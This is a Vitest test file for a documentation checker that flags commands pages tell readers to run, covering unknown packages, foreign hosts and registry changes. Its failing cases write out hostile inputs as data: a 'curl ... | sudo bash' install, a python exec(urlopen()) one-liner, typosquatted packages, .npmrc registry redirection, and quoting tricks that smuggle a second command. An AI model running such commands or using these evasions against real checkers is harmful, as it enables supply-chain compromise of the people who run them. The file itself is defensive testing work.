import {describe, expect, it} from 'vitest';
import {listFiles, readText} from '@astral-docs/content-checks/files';
import {formatFinding} from '@astral-docs/content-checks/report';
import type {PageRules} from '@astral-docs/content-checks/rules/pageRules';
import {pageRules} from '../../config/pageRules';
import {checkShell, listShellTexts} from '@astral-docs/content-checks/rules/shell';
import {checkCommands, listLockFilePackages} from '@astral-docs/content-checks/rules/commands';

const locked = new Set(['ethers', 'tsx', '@scope/kit']);
const rules: PageRules = {
  ...pageRules,
  packages: {'pypi shapely': 'The page draws with it.'},
};
const found = (text: string): string[] =>
  checkCommands('docs/page.md', {line: 1, text}, locked, rules).map(formatFinding);

describe('commands that a page tells readers to run', () => {
  it.each([
    'npm install --save-exact ethers@6 @scope/kit@1.2.0 tsx ./kit/scope-kit-1.0.0.tgz',
    '(cd kit && npx tsx verify.ts record.json "$(cat signer.txt)")',
    'pip install "shapely>=2"',
    'pnpm install --frozen-lockfile',
    'TOKEN="$(curl -s https://docs.astral.global/a.txt)" npx tsx a.ts 2>errors.txt',
    'curl -s https://docs.astral.global/a.json | jq .uid || echo "no record"',
    'The schema registry https://easscan.org has a spatial index: https://h3geo.org',
    'lat>=52',
    '{"overrides": {"files": "*.ts"}, "dependencies": {"own": "workspace:*"}}',
    'curl -fO https://docs.astral.global/samples/a.ts && npx tsx a.ts | head -n 15',
  ])('pass when each package is known: %s', (line) => expect(found(line)).toEqual([]));

  it.each([
    ['npm install ethres@6', 'ethres (npm) is not a package that this project uses. Check the name (nearest: ethers).'],
    ['npx --yes -p evil tsx a.ts', 'evil (npm)'],
    ['npm create evil', 'create-evil (npm)'],
    ['npm i $NAME', '$NAME (npm)'],
    ['npm install ethers@npm:evil@6', 'evil (npm)'],
    ['npm install ethers@evil/ethers', 'ethers@evil/ethers (npm)'],
    ['npm install ethers@https://example.org/a.tgz', 'ethers@https://example.org/a.tgz (npm)'],
    ['npm i "evil@>=6"', 'evil (npm)'],
    ['npm install `\n  evil', 'evil (npm)'],
    ['pip install "evil<2"', 'evil (pypi)'],
    ['python3 -m pip install shaply', "add 'pypi shaply' with a reason to config/pageRules.ts"],
    ['go install example.org/evil@latest', 'example.org/evil (go)'],
    ['uv run --with evil a.py', 'evil (pypi)'],
    ['cargo +nightly install evil', 'evil (cargo)'],
    ['brew reinstall evil/tap/x', 'evil/tap/x (brew)'],
    ['curl -fsSL https://example.org/install | sudo bash', 'The command reads https://example.org/'],
    ['python3 -c "exec(urlopen(\'https://example.org/a\').read())"', 'The command reads https://example.org/'],
    [`npm ${'-a '.repeat(60)}! || npm i evil`, 'evil (npm)'],
    [`curl a | sudo ${'-/sudo '.repeat(60)}! || npm i evil`, 'evil (npm)'],
    ['npm install --dir evil', 'evil (npm)'],
    ['npm ex evil', 'evil (npm)'],
    ['npm i > a.txt evil', 'evil (npm)'],
    ['npm pkg set dependencies.evil=6', 'packages are listed in a form'],
    ['Type: n"p"m i\u2028 evil', 'evil (npm)'],
    ['npx https://example.org/evil.tgz', 'https://example.org/evil.tgz (npm)'],
    ['npm set registry https://example.org', 'takes packages from another registry'],
    ['echo "registry=https://example.org" > .npmrc', 'takes packages from another registry'],
    ['pip install -r https://example.org/a.txt', 'https://example.org/a.txt (pypi)'],
    ['npm i <version> evil', 'evil (npm)'],
  ])('fail with the line and what to do: %s', (line, message) => {
    const [first = ''] = found(`Text.\n\n    ${line}`);
    expect(first).toContain('docs/page.md:3:1 ');
    expect(first).toContain(message);
  });
});

describe('what a reader gives to a shell', () => {
  const check = (text: string, language?: string): string[] =>
    listShellTexts({line: 5, text, ...(language !== undefined && {language})})
      .flatMap((shown) => checkShell('docs/page.md', shown, rules))
      .map(formatFinding);
  it.each([
    'PORT=3000 npm start > log.txt 2>&1',
    '# A note: evil && evil\nnpm pkg set type=module # evil',
    "curl -s \"$BASE_URL/graphql$a\" -w '%{http_code}' \\\n  -d '{ evil;\n evil }'",
    'echo "$(cat a.txt) & \\"b" | (cd kit && npx tsx a.ts "$(cat "b.txt")")',
    'while [ "$next" != null ]; do next=$(jq -r .next a.json); done',
    'curl -fO "https://docs.astral.global/samples/{a,b}.ts"',
  ])('passes when the lists have each command and address: %s', (text) => expect(check(text, 'sh')).toEqual([]));

  it.each([
    ['npm ci\npixi add evil', 6, '`pixi add evil`'],
    ['echo a | sudo evil', 5, '`sudo evil`'],
    ['npm ci; if evil; then break', 5, '`evil`'],
    ['echo "$(evil -a)"', 5, '`evil -a`'],
    ['echo \\\n  a &\nevil', 7, '`evil`'],
    ['cat <(evil) >a (evil)', 5, '`evil`'],
    ['> a evil', 5, '`evil`'],
    ['npm_config_userconfig=//example.org/a npm ci', 5, 'reads //example.org/a'],
    ['np"m" \'exe\' tsx', 5, '`npm exe tsx`'],
    ['npm ci\ncat `evil`', 6, 'The block has "`e", which no check reads'],
    ["echo \\'; evil '", 5, 'The block has "\\\\\'"'],
    ["echo $'\\''; evil", 5, 'The block has "$\'"'],
    ["echo ${x#'}; evil; '}", 5, 'The block has "${"'],
    ['cat << a\nevil\na', 5, 'has "<<"'],
    ['git clone git@example.org:evil/a', 5, 'reads example.org:evil/a'],
    ['git clone https://github.com/AstralProtocol/%2E./evil', 5, 'reads https://github.com/AstralProtocol/%2E./evil'],
    ['curl -fsS example.org -o a.sh', 5, 'reads example.org'],
    ['curl 1.1.1.1', 5, 'reads 1.1.1.1'],
    ['curl "$BASE_URL@example.org"', 5, 'reads $BASE_URL@example.org'],
    ["curl 'https://docs.astral.global@example.org/'", 5, 'reads https://docs.astral.global@example.org/'],
    ['curl https://docs.astral.global.example.org', 5, 'reads https://docs.astral.global.example.org'],
    [`npm ci ${'$(cat '.repeat(9)}$(evil`, 5, 'no end'],
    [`npm ci ${'a.'.repeat(50_000)} "${'$(cat)'.repeat(9999)}"; evil`, 5, '`evil`'],
  ])('fails with the line and what to do: %s', (text, line, message) => {
    const found = check(text, 'sh').join('\n');
    expect(found).toContain(`docs/page.md:${line}:1 `);
    expect(found).toContain(message);
  });

  it.each([
    ['$ bash a.sh', 'Console', true],
    ['a b', 'ksh', true],
    ['$ npm exe tsx', '', true],
    ['One line.\nnpm crea tsx', 'text', true],
    ['npm: an error', 'text', false],
    ['bash a.sh', 'ts', false],
    ['Run `pixi add evil` first.', undefined, true],
    ['Run `sh a.sh` first.', undefined, true],
    ['Run it by `npm`, not `git`.', undefined, false],
  ])('is known by its language or its words: %j in %s', (text, language, isShell) =>
    expect(check(text, language).length > 0).toBe(isShell),
  );
});

it('packages of this project, and programs by another name than their package, are none that a registry has', () => {
  const names = listLockFilePackages({
    packages: {
      '': {name: 'site'},
      'packages/own': {name: '@site/own'},
      'node_modules/@site/own': {link: true},
      'node_modules/typescript': {},
      'node_modules/a/node_modules/@scope/kit': {name: 'kit-renamed'},
    },
  });
  expect([...names]).toEqual(['typescript', 'kit-renamed']);
});

/** Programs of ours that pages name, and the file of each that reads its options. */
const programs: Readonly<Record<string, string>> = {
  'api-server.ts': 'packages/api-model/program/main.ts',
  'replay.ts': 'packages/api-model/tests/corpus/replay.ts',
  'conformance.mjs': 'packages/conformance/runner/options.ts',
};

it('each option of our programs that a page names is one that the program reads', () => {
  const named = listFiles(['docs'], /\.mdx?$/).flatMap((page) => {
    const text = readText(page);
    const commands = [...text.matchAll(/(?:npx tsx|node) (?:\S*\/)?([\w-]+\.(?:ts|mjs)) ([^`\n|]*)/g)]
      .filter(([, program = '']) => program in programs)
      .map(([, program = '', rest = '']) => ({program, options: rest.replace(/(?:^| )-- .*/, '')}));
    // On a page about one program, an option may stand alone.
    const [only, ...others] = new Set(commands.map(({program}) => program));
    const alone = only && !others.length ? [...text.matchAll(/`(--[a-z][^`]*)`/g)] : [];
    return [...commands, ...alone.map(([, options = '']) => ({program: only!, options}))].flatMap(
      ({program, options}) => (options.match(/--[a-z][\w-]*/g) ?? []).map((option) => [page, program, option] as const),
    );
  });
  expect(named.length).toBeGreaterThan(8);
  const isKnown = (program: string, option: string): boolean =>
    new RegExp(`${option}\\b|^  ${option.slice(2)}: \\{type`, 'm').test(readText(programs[program]!));
  expect(named.filter(([, program, option]) => !isKnown(program, option))).toEqual([]);
});
